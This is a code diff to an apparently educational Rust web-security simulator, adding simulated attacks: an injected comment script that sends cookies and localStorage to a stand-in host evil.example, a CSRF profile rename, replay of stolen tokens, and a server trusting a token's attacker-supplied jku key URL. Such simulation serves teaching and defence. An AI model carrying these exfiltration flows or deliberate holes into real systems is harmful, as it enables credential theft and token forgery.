@@ -3,11 +3,16 @@
 //! actions; everything is deterministic given the entropy source and the
 //! start time.
 
-use super::browser::{Browser, CookieError, ScriptView, TokenStorage};
+use super::attacker::{
+    jku_of, read_by_script, split_url, Credential, Stolen, ATTACKER_HOST, ATTACKER_JWKS_URL,
+    COLLECT_PATH, CSRF_NAME,
+};
+use super::browser::{Browser, CookieError, Initiator, ScriptView, TokenStorage};
 use super::clock::Clock;
 use super::cluster::{Cluster, LbPolicy, Routing, MAX_SERVERS};
+use super::http::HOST;
 use super::http::{Method, Request, Response};
-use super::keys::{Issuer, KeyMode, ISSUER_ID};
+use super::keys::{Issuer, KeyMode, ISSUER_ID, JWKS_PATH};
 use super::lifecycle::{
     Lifecycle, Seen, TokenScheme, DEFAULT_DENY_DELAY, LOGOUT_EVERYWHERE_PATH, REFRESH_COOKIE,
     REFRESH_PATH, REFRESH_REVOKE_PATH, REVOKE_PATH,
@@ -15,7 +20,8 @@ use super::lifecycle::{
 use super::mode::Mode;
 use super::password::{PasswordHash, DEFAULT_ITERATIONS, HASH_LEN, SALT_LEN};
 use super::rng::{random_b64url, Entropy, EntropyError};
-use super::server::{Server, ServerSettings, ServerTemplate, User};
+use super::server::protected::find_token;
+use super::server::{Server, ServerSettings, ServerTemplate, User, RENAME_PATH};
 use super::session::SessionStore;
 use super::trace::{CheckStep, Trace};
 use super::weakness::Weakness;
@@ -123,8 +129,30 @@ pub enum Sender {
     /// A raw request (think `curl` on another machine, or an attacker with a
     /// copied token): exactly what was written, and the browser is untouched.
     Raw,
-    /// A server asking the issuer for its public keys (key-pair mode).
+    /// A server asking the issuer for its public keys (key-pair mode), or
+    /// fetching the key set a token's `jku` names.
     Server(usize),
+    /// The attacker's own machine, with what it stole (issue 12).
+    Attacker,
+    /// The victim's browser, on `evil.example`'s page: a cross-site request
+    /// (cookies go along only as their `SameSite` allows).
+    CrossSite,
+    /// A script injected into the app's page, sending what it read to `evil.example`.
+    InjectedScript,
+}
+
+impl Sender {
+    /// The stable name (`data-sender` in the view).
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Sender::Page => "page",
+            Sender::Raw => "raw",
+            Sender::Server(_) => "server",
+            Sender::Attacker => "attacker",
+            Sender::CrossSite => "cross-site",
+            Sender::InjectedScript => "injected-script",
+        }
+    }
 }
 
 /// One request and its response, as the network log shows them: header
@@ -218,6 +246,16 @@ pub enum Action {
     LogoutEverywhere,
     /// The attack lab: switch one server weakness on or off.
     SetWeakness(Weakness, bool),
+    /// The user opens the page with a visitor's comment in it; with `xss`
+    /// on, the script hidden in the comment runs and sends what it reads
+    /// to `evil.example`.
+    OpenCommentsPage,
+    /// The user visits `evil.example`, whose page posts to
+    /// `/api/profile/name` on the app (CSRF).
+    VisitAttackerSite,
+    /// The attacker sends `GET path` from its own machine with the newest
+    /// credential it stole (or none).
+    AttackerSend(String),
 }
 
 /// The settings a story starts from.
@@ -250,11 +288,32 @@ pub struct World {
     loot: Loot,
 }
 
-/// What a thief holds (issue 13's `steal-refresh` / `replay-refresh`).
+/// What a thief holds: issue 13's `steal-refresh` / `replay-refresh`, and
+/// what an injected script read from the page (issue 12).
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Loot {
     pub refresh: Option<String>,
     pub access: Option<String>,
+    /// Read by the injected script, newest last (one entry per name and place).
+    pub stolen: Vec<Stolen>,
+    /// The user opened the page with the comment: whether its script ran.
+    pub script_ran: Option<bool>,
+}
+
+impl Loot {
+    /// The credential the attacker would send: the newest one a script
+    /// stole, else an access token got with a stolen refresh token.
+    pub fn credential(&self) -> Option<Credential> {
+        self.stolen
+            .iter()
+            .rev()
+            .find_map(Stolen::credential)
+            .or_else(|| self.access.clone().map(Credential::Token))
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.refresh.is_none() && self.access.is_none() && self.stolen.is_empty()
+    }
 }
 
 /// `text` as the network log keeps it: whole up to [`MAX_LOGGED_BYTES`], else
@@ -580,6 +639,24 @@ impl World {
     }
 
     /// The weaknesses switched on.
+    /// The user opens the comments page. With `xss` on, the comment's script
+    /// runs and posts what it reads to `evil.example` (that exchange is
+    /// returned); with it off the comment shows as text and nothing is sent.
+    pub fn open_comments_page(&mut self) -> Option<Exchange> {
+        self.perform(Action::OpenCommentsPage)
+    }
+
+    /// The user visits `evil.example`, whose page posts to the app (CSRF).
+    pub fn visit_attacker_site(&mut self) -> Exchange {
+        self.record(Action::VisitAttackerSite);
+        self.do_cross_site()
+    }
+
+    /// The attacker sends `GET path` from its own machine with what it stole.
+    pub fn attacker_send(&mut self, path: &str) -> Option<Exchange> {
+        self.perform(Action::AttackerSend(path.to_string()))
+    }
+
     pub fn weaknesses(&self) -> Vec<Weakness> {
         self.cluster.weaknesses().iter().copied().collect()
     }
@@ -770,8 +847,191 @@ impl World {
             }
             Action::LogoutEverywhere => return Some(self.do_logout_everywhere()),
             Action::SetWeakness(weakness, on) => self.cluster.set_weakness(weakness, on),
+            Action::OpenCommentsPage => return self.do_comments_page(),
+            Action::VisitAttackerSite => return Some(self.do_cross_site()),
+            Action::AttackerSend(path) => {
+                let request = match self.loot.credential() {
+                    Some(credential) => credential.request(&path),
+                    None => {
+                        Request::get(path).with_header("User-Agent", "curl/8.5.0 (evil.example)")
+                    }
+                };
+                return Some(self.dispatch(request, Sender::Attacker));
+            }
         }
         None
+    }
+
+    /// The comments page: a visitor's comment shown escaped (nothing runs),
+    /// or with `xss` on, as HTML, so its script reads `document.cookie` and
+    /// `localStorage` and posts them to `evil.example`.
+    fn do_comments_page(&mut self) -> Option<Exchange> {
+        let runs = self.cluster.weaknesses().contains(&Weakness::Xss);
+        self.loot.script_ran = Some(runs);
+        if !runs {
+            return None;
+        }
+        let view = self.browser.script_view(self.clock.now);
+        let read = read_by_script(&view.document_cookie, &view.local_storage);
+        let body = Json::object([
+            ("cookie", Json::string(view.document_cookie.clone())),
+            (
+                "storage",
+                Json::object(
+                    view.local_storage
+                        .iter()
+                        .map(|(k, v)| (k.clone(), Json::string(v.clone()))),
+                ),
+            ),
+        ])
+        .to_compact();
+        let request = Request::new(Method::Post, COLLECT_PATH)
+            .with_header("Host", ATTACKER_HOST)
+            .with_header("Origin", format!("https://{HOST}"))
+            .with_header("Content-Type", "text/plain;charset=UTF-8")
+            .with_header("Content-Length", body.len().to_string());
+        let request = Request {
+            body: Some(body),
+            ..request
+        };
+        let detail = if read.is_empty() {
+            "nothing: no cookie without HttpOnly, and localStorage is empty. A token in a page variable is out of the script's reach (though it could still send requests from the page).".to_string()
+        } else {
+            read.iter()
+                .map(|s| format!("{} from {}", s.name, s.from))
+                .collect::<Vec<_>>()
+                .join(", ")
+        };
+        for item in read {
+            self.loot
+                .stolen
+                .retain(|s| !(s.name == item.name && s.from == item.from));
+            self.loot.stolen.push(item);
+        }
+        let response = Response::json(200, &Json::object([("stored", Json::Bool(true))]));
+        let step = CheckStep::pass("collect", "evil.example keeps what the script sent", detail);
+        Some(self.log_elsewhere(
+            Sender::InjectedScript,
+            request,
+            response,
+            "The script hidden in the comment runs in the app's page and posts what it can read to evil.example.".to_string(),
+            step,
+        ))
+    }
+
+    /// The user's browser on `evil.example`: its page posts
+    /// `{"name": ...}` as `text/plain` to the app (no CORS preflight). The
+    /// browser adds the app's cookies only as their `SameSite` allows, and
+    /// never a bearer token: the other site's script cannot read it.
+    fn do_cross_site(&mut self) -> Exchange {
+        let now = self.clock.now;
+        let body = Json::object([("name", Json::string(CSRF_NAME))]).to_compact();
+        let mut request = Request::new(Method::Post, RENAME_PATH)
+            .with_header("Host", HOST)
+            .with_header("Origin", format!("https://{ATTACKER_HOST}"))
+            .with_header("Content-Type", "text/plain;charset=UTF-8")
+            .with_header("Content-Length", body.len().to_string());
+        if let Some(cookies) = self.browser.jar.cookie_header(
+            RENAME_PATH,
+            now,
+            Initiator::CrossSiteSubresource,
+            &Method::Post,
+        ) {
+            request = request.with_header("Cookie", cookies);
+        }
+        request.body = Some(body);
+        let exchange = self.dispatch(request, Sender::CrossSite);
+        self.browser
+            .jar
+            .apply_response(&exchange.response, RENAME_PATH, now);
+        exchange
+    }
+
+    /// Log an exchange another site answered (not the app's servers).
+    fn log_elsewhere(
+        &mut self,
+        sender: Sender,
+        request: Request,
+        response: Response,
+        note: String,
+        step: CheckStep,
+    ) -> Exchange {
+        let exchange = Exchange {
+            seq: self.next_seq,
+            at: self.clock.now,
+            sender,
+            request: request_for_log(&request),
+            response: response_for_log(&response),
+            server_id: None,
+            routing: Routing {
+                server_id: None,
+                note,
+            },
+            trace: Trace::Elsewhere {
+                title: "evil.example: the attacker's site",
+                steps: vec![step],
+            },
+        };
+        self.next_seq = self.next_seq.saturating_add(1);
+        if self.log.len() >= MAX_LOG {
+            self.log.remove(0);
+        }
+        self.log.push(exchange.clone());
+        exchange
+    }
+
+    /// With `trust-jku` on, a server checking a token whose header names a
+    /// `jku` fetches that URL first: the log shows where it went.
+    fn log_jku_fetch(&mut self, server_id: usize, token: &str) {
+        let Some(url) = jku_of(token) else {
+            return;
+        };
+        let Some((host, path)) = split_url(&url) else {
+            return;
+        };
+        let own = format!("https://{HOST}{JWKS_PATH}");
+        let set = if url == ATTACKER_JWKS_URL {
+            Some(super::attacker::attacker_key_set())
+        } else if url == own && self.cluster.key_mode() == KeyMode::KeyPair {
+            Some(self.cluster.issuer().published())
+        } else {
+            None
+        };
+        let request = Request::new(Method::Get, path)
+            .with_header("Host", host)
+            .with_header("Accept", "application/jwk-set+json, application/json");
+        let (response, step) = match set {
+            Some(set) => (
+                Response::json(200, &set.to_public_json()),
+                CheckStep::pass(
+                    "serve",
+                    "Serve the key set at the address the token gave",
+                    if url == ATTACKER_JWKS_URL {
+                        "evil.example serves the attacker's own public key (kid evil-1): it checks whatever the attacker signs"
+                    } else {
+                        "the issuer's own key set"
+                    },
+                ),
+            ),
+            None => (
+                Response::error(
+                    404,
+                    format!("Nothing answers at {url} in the simulated network."),
+                ),
+                CheckStep::fail(
+                    "serve",
+                    "Serve the key set at the address the token gave",
+                    format!("nothing at {url}"),
+                ),
+            ),
+        };
+        self.log_elsewhere(
+            Sender::Server(server_id),
+            request,
+            response,
+            format!("Server {server_id} fetches the key set the token's jku names: {url}."),
+            step,
+        );
     }
 
     fn do_login(&mut self, email: &str, password: &str) -> Exchange {
@@ -926,6 +1186,16 @@ impl World {
                 self.log.remove(0);
             }
             self.log.push(exchange);
+        }
+        if let Some(server_id) = routing.server_id {
+            let checks_token = self.mode == Mode::Jwt
+                && request.route_path().starts_with("/api/")
+                && self.cluster.weaknesses().contains(&Weakness::TrustJku);
+            if checks_token {
+                if let Ok((_, token)) = find_token(&request) {
+                    self.log_jku_fetch(server_id, &token);
+                }
+            }
         }
         // The server answered the full request; the log (and the caller)
         // get the copy with very long values shortened.
